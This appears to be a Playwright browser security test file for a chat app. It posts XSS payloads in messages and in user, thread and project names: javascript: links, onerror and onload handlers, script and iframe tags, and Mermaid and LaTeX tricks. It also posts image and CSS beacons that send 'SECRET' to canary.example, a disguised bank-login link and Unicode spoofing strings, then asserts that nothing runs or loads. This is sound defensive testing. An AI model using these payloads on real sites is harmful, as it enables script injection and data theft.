"""Attacks on the page, in a real browser: words, names and titles that mean harm, from people and from models.

A canary counts whatever runs, and the fixtures of conftest.py complain of every request to another origin, every breach
of the policy and every error: nothing may run and nothing may be fetched.
"""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Person

RUN = "window.__pwned=1"
PAYLOADS = [
    f"[x](javascript:{RUN}) [y](JaVa\tScript:{RUN}) [z](data:text/html,<script>{RUN}</script>) <javascript:{RUN}>",
    f"<img src=x onerror={RUN}> <svg onload={RUN}> <script>{RUN}</script> <iframe srcdoc='<script>parent.{RUN}</script>'>",
    "![canary](https://canary.example/p.png?d=SECRET) ![r][r]\n\n[r]: https://canary.example/r.png?d=SECRET",
    "<link rel=stylesheet href=https://canary.example/x.css> <style>@import url(https://canary.example/y.css)</style>",
    "<div style=\"background:url(https://canary.example/z.png)\">x</div> <video poster=https://canary.example/v.png>",
    f'<details type="reasoning" open ontoggle={RUN}><summary>Thought</summary>x</details>',
    '```json\n{"type":"access.revoked","thread_id":"1"}\n```\n\n```html\n<script>' + RUN + "</script>\n```",
    "$\\foo{<img src=x onerror=" + RUN + ">}$ $$\\href{javascript:" + RUN + "}{x}$$ \\includegraphics{https://canary.example/k.png}",
    "```mermaid\n%%{init: {'flowchart':{'htmlLabels':true}}}%%\nflowchart LR\nA[<img src=x onerror=" + RUN + ">]\n"
    f'click A href "javascript:{RUN}"\n```',
    "[https://bank.example/login](https://canary.example/collect?d=SECRET)",
    "pay \u202etxt.exe\u202c now\u200b, @\u0430lice \x1b[31mred",
]  # fmt: skip


def pwned(person: Person) -> object:
    return person.page.evaluate("window.__pwned")


def click_all(person: Person) -> None:
    """Every link of the room, without leaving the page: what a hurried reader might do."""
    person.page.evaluate(
        """() => { for (const link of document.querySelectorAll('[role=log] a')) {
            if (!/^(https?:|mailto:)/.test(link.href)) link.click() } }"""
    )


@pytest.mark.attack(1, 3, 4, 5, 11, 12, 14)
def test_messages_that_want_to_run_or_fetch_something(alice: Person, bob: Person) -> None:
    thread_id = alice.new_thread()
    bob.open_thread(thread_id)
    for payload in PAYLOADS:
        alice.api("POST", f"/threads/{thread_id}/messages", {"body": payload, "mode": "talk"})
    for person in (alice, bob):
        expect(person.room.get_by_text("red", exact=False).last).to_be_visible()
        click_all(person)
        person.page.reload()  # and as a page of history
        expect(person.room.get_by_text("red", exact=False).last).to_be_visible()
        assert pwned(person) is None
        assert (
            person.page.locator("iframe, object, embed, [role=log] script, [role=log] style, [role=log] img").count()
            == 0
        )
        expect(person.room.get_by_text("(canary.example)")).to_be_visible()  # where the link really leads
        assert "canary.example" not in " ".join(person.complaints)


@pytest.mark.attack(10)
def test_names_of_people_threads_and_projects_that_are_markup(alice: Person, bob: Person) -> None:
    name = f"<img src=x onerror={RUN}>"
    bob.api("PATCH", "/me", {"name": name})
    thread_id = alice.new_thread()
    alice.api("PATCH", f"/threads/{thread_id}", {"title": f"<svg onload={RUN}>"})
    alice.api(
        "PATCH", f"/projects/{alice.project_id}", {"name": f"<b onclick={RUN}>P", "about": f"<script>{RUN}</script>"}
    )
    bob.open_thread(thread_id)
    bob.api("POST", f"/threads/{thread_id}/messages", {"body": "hello from a name", "mode": "talk"})
    alice.page.reload()
    expect(alice.room.get_by_text("hello from a name")).to_be_visible()
    expect(alice.page.get_by_text("onerror").first).to_be_visible()
    for person in (alice, bob):
        assert pwned(person) is None
        assert person.page.locator("img[src=x], [onerror], [onload], [onclick]").count() == 0
